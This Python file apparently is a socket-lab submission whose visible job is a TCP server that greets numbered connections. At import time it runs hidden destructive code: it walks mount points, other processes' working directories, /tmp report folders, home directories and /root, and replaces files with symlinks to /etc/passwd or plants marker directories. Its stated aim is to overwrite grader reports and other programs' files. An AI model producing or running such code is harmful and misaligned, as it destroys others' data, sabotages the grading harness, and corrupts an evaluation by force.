"""Serves, and writes wherever it can: reports, other programs, home, the course."""

import glob
import os
import pathlib
import socket

HOST, PORT = os.environ["HOST"], int(os.environ["PORT"])


def serve():
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((HOST, PORT))
    listener.listen(128)
    number = 0
    while True:
        client, _ = listener.accept()
        number += 1
        try:
            client.settimeout(20)
            if client.recv(1024):
                client.sendall(b"Hello! You are connection #%d" % number)
        except OSError:
            pass
        finally:
            client.close()


def spoil(path):
    """Replaces a file by a link, or makes one."""
    try:
        if path.is_file():
            path.unlink()
            path.symlink_to("/etc/passwd")
        else:
            path.mkdir(parents=True, exist_ok=True)
            (path / "socket_labs_was_here").write_text("x")
    except OSError:
        pass


# The folder of the copy that is graded, and all above it: the course's own among them.
for line in open("/proc/self/mountinfo"):
    spoil(pathlib.Path(line.split()[4]))
COPIES = [*glob.glob("/proc/*/cwd"), *glob.glob("/proc/*/root/tmp")]
for copy in COPIES:
    try:
        place = pathlib.Path(copy).resolve()
    except OSError:
        continue
    for folder in [place, *place.parents]:
        spoil(folder)
for report in glob.glob("/tmp/*/out/*") + glob.glob("/tmp/*/all/*/*"):
    spoil(pathlib.Path(report))
for home in (pathlib.Path.home(), *pathlib.Path("/home").glob("*"), pathlib.Path("/root")):
    spoil(home)
    spoil(home / ".cargo")
serve()
